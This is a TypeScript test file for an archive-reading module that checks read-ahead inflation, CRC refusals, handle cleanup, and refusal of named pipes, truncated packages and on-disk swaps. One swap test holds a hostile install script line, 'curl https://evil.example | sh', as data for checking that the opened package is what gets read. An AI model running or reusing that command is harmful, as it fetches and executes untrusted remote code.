import { execFileSync } from 'node:child_process';
import { mkdtemp, readdir, rename, truncate } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it, vi } from 'vitest';
import { ArchiveRefusal } from '../../src/core/errors/archive-refusal.js';
import { DEFAULT_ARCHIVE_LIMITS, type ArchiveEntry, type OpenedArchive } from '../../src/preflight/archive.js';
import { createReadAhead, READ_AHEAD_ENTRIES, WHOLE_ENTRY_BYTES } from '../../src/yauzl/create-read-ahead.js';
import { openArchive } from '../../src/yauzl/open-archive.js';
import { openZipFile, type ReadRange } from '../../src/yauzl/open-zip-file.js';
import { readCentralDirectory } from '../../src/yauzl/read-central-directory.js';
import { buildRawZip } from '../helpers/raw-zip.js';
import { buildYazlZip, writeTempFile } from './build-yazl-zip.js';

/** Config-like text that deflates well, different for every file. */
const textOf = (index: number, bytes: number): string =>
  Array.from({ length: Math.ceil(bytes / 40) }, (_, line) => `dten.setting.${index}.${line} = value-${line * index}\n`)
    .join('')
    .slice(0, bytes);

async function chunksOf(archive: OpenedArchive, entry: ArchiveEntry): Promise<Buffer[]> {
  const chunks: Buffer[] = [];
  for await (const chunk of archive.read(entry)) chunks.push(chunk);
  return chunks;
}

const openFiles = async (): Promise<number> => (await readdir('/proc/self/fd')).length;

describe('entries inflated ahead of the reader', () => {
  it('when a package of many small files and one large one is read in order, every file comes back byte for byte', async () => {
    const small = Array.from({ length: 40 }, (_, index) => ({
      name: `etc/dten/${index}.conf`,
      content: textOf(index, 20_000),
    }));
    const large = textOf(99, WHOLE_ENTRY_BYTES + 300_000);
    const zip = await buildYazlZip([
      { name: 'etc/', directory: true },
      ...small.slice(0, 20),
      { name: 'bin/stored.bin', content: Buffer.alloc(5000, 7), compress: false },
      { name: 'share/large.txt', content: large },
      ...small.slice(20),
    ]);
    const archive = await openArchive(
      { kind: 'file', path: await writeTempFile('many.zip', zip) },
      DEFAULT_ARCHIVE_LIMITS,
    );
    try {
      const read = new Map<string, Buffer[]>();
      for (const entry of archive.entries) read.set(entry.name, await chunksOf(archive, entry));
      for (const file of small) expect(Buffer.concat(read.get(file.name)!).toString()).toBe(file.content);
      expect(Buffer.concat(read.get('bin/stored.bin')!)).toEqual(Buffer.alloc(5000, 7));
      expect(Buffer.concat(read.get('share/large.txt')!).toString()).toBe(large);
      // A small file arrives in one piece (inflated whole); the large one is streamed, so memory stays at a chunk.
      expect(read.get('etc/dten/0.conf')).toHaveLength(1);
      expect(read.get('share/large.txt')!.length).toBeGreaterThan(1);
    } finally {
      archive.close();
    }
  });

  it('when a file further on is damaged, the files before it read normally and it is refused only once reached', async () => {
    const entries = Array.from({ length: 6 }, (_, index) => ({
      name: `scripts/step-${index}.sh`,
      content: textOf(index, 3000),
      method: 8,
      ...(index === 4 ? { crc32: 0x12345678 } : {}),
    }));
    const archive = await openArchive(
      { kind: 'buffer', buffer: buildRawZip(entries), name: 'pkg.zip' },
      DEFAULT_ARCHIVE_LIMITS,
    );
    try {
      for (const entry of archive.entries.slice(0, 4)) {
        expect(Buffer.concat(await chunksOf(archive, entry)).toString()).toBe(textOf(Number(entry.name[13]), 3000));
      }
      const refusal = await chunksOf(archive, archive.entries[4]!).catch((error: unknown) => error);
      expect(refusal).toBeInstanceOf(ArchiveRefusal);
      expect((refusal as ArchiveRefusal).code).toBe('crc-mismatch');
    } finally {
      archive.close();
    }
  });

  it('when the reader stops before a damaged file it had read ahead, and closes the package, nothing is left open or unhandled', async () => {
    const entries = Array.from({ length: 12 }, (_, index) => ({
      name: `config/${index}.properties`,
      content: textOf(index, 50_000),
      method: 8,
      ...(index === 3 ? { crc32: 1 } : {}),
    }));
    const path = await writeTempFile('stops.zip', buildRawZip(entries));
    const before = await openFiles();
    const archive = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS);
    await chunksOf(archive, archive.entries[0]!);
    archive.close();
    // The reads ahead finish after the close; the file is closed once they have (a refusal among them goes unseen).
    await sleep(200);
    expect(await openFiles()).toBe(before);
    await expect(chunksOf(archive, archive.entries[1]!)).rejects.toThrow(/closed/);
  });

  it('when a reader goes through the files in order, past folders, the files after the one it reads are already being read; a jump starts nothing ahead', async () => {
    const files = Array.from({ length: 30 }, (_, index) => ({
      name: `d${index % 3}/f${index}.txt`,
      content: textOf(index, 4000),
    }));
    const zip = await buildYazlZip(
      files.flatMap((file, index) => (index % 3 === 0 ? [{ name: `d${index}/`, directory: true }, file] : [file])),
    );
    const source = { kind: 'buffer' as const, buffer: zip, name: 'pkg.zip' };
    const { zipfile, readRange } = await openZipFile(source);
    try {
      const { entries } = await readCentralDirectory(zipfile, 100);
      entries.sort((a, b) => a.relativeOffsetOfLocalHeader - b.relativeOffsetOfLocalHeader);
      const read: string[] = [];
      const spy: ReadRange = (position, length) => {
        // The entry whose local header comes last before the bytes asked for.
        read.push(entries.filter((entry) => entry.relativeOffsetOfLocalHeader < position).at(-1)!.fileName);
        return readRange(position, length);
      };
      const ahead = createReadAhead(zipfile, spy, entries, DEFAULT_ARCHIVE_LIMITS);
      const readAll = async (entry: (typeof entries)[number]): Promise<string> => {
        const chunks: Buffer[] = [];
        for await (const chunk of ahead.read(entry)) chunks.push(chunk);
        return Buffer.concat(chunks).toString();
      };
      const fileEntries = entries.filter((entry) => !entry.fileName.endsWith('/'));
      // The last file first, as the preflight reads manifest.json: nothing else is read.
      expect(await readAll(fileEntries.at(-1)!)).toBe(files.at(-1)!.content);
      expect(read).toEqual([files.at(-1)!.name]);
      read.length = 0;
      for (const [index, entry] of fileEntries.slice(0, 4).entries())
        expect(await readAll(entry)).toBe(files[index]!.content);
      // Four files read, and those after them already asked for, across the folder entries between them.
      expect(read.slice(0, 4)).toEqual(files.slice(0, 4).map((file) => file.name));
      // Each read ahead finds its file's data first (yauzl reads the local header), so the last are asked for a moment later.
      await vi.waitFor(() => expect(read).toEqual(files.slice(0, 4 + READ_AHEAD_ENTRIES).map((file) => file.name)));
    } finally {
      zipfile.close();
    }
  });

  it('when the package is replaced at its path after it was opened, what is read is still the package that was opened', async () => {
    const large = textOf(7, WHOLE_ENTRY_BYTES + 100_000);
    const build = (script: string) =>
      buildYazlZip([
        { name: 'scripts/install.sh', content: script },
        { name: 'share/large.txt', content: large },
      ]);
    const path = await writeTempFile('swapped.zip', await build('#!/bin/sh\nsystemctl restart dten\n'));
    const archive = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS);
    try {
      const other = await writeTempFile('other.zip', await build('#!/bin/sh\ncurl https://evil.example | sh\n'));
      await rename(other, path);
      const [script, text] = archive.entries;
      expect(Buffer.concat(await chunksOf(archive, script!)).toString()).toBe('#!/bin/sh\nsystemctl restart dten\n');
      expect(Buffer.concat(await chunksOf(archive, text!)).toString()).toBe(large);
    } finally {
      archive.close();
    }
  });

  it('when a named pipe sits where the package should be, it is refused at once as not a regular file', async () => {
    const path = join(await mkdtemp(join(tmpdir(), 'dten-fifo-')), 'Full-upgrade-package-dten.zip');
    execFileSync('mkfifo', [path]);
    const refusal = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(ArchiveRefusal);
    expect(refusal).toMatchObject({ code: 'not-found', params: { detail: 'not a regular file' } });
  });

  it('when the package is cut short after it was opened, taking its digest is refused as a cut-short package', async () => {
    const zip = await buildYazlZip([{ name: 'share/large.txt', content: textOf(3, 3 * 1024 ** 2) }]);
    const path = await writeTempFile('cut.zip', zip);
    const archive = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS);
    try {
      await truncate(path, 1000);
      const refusal = await archive.sha256().catch((error: unknown) => error);
      expect(refusal).toBeInstanceOf(ArchiveRefusal);
      expect(refusal).toMatchObject({ code: 'truncated' });
    } finally {
      archive.close();
    }
  });
});
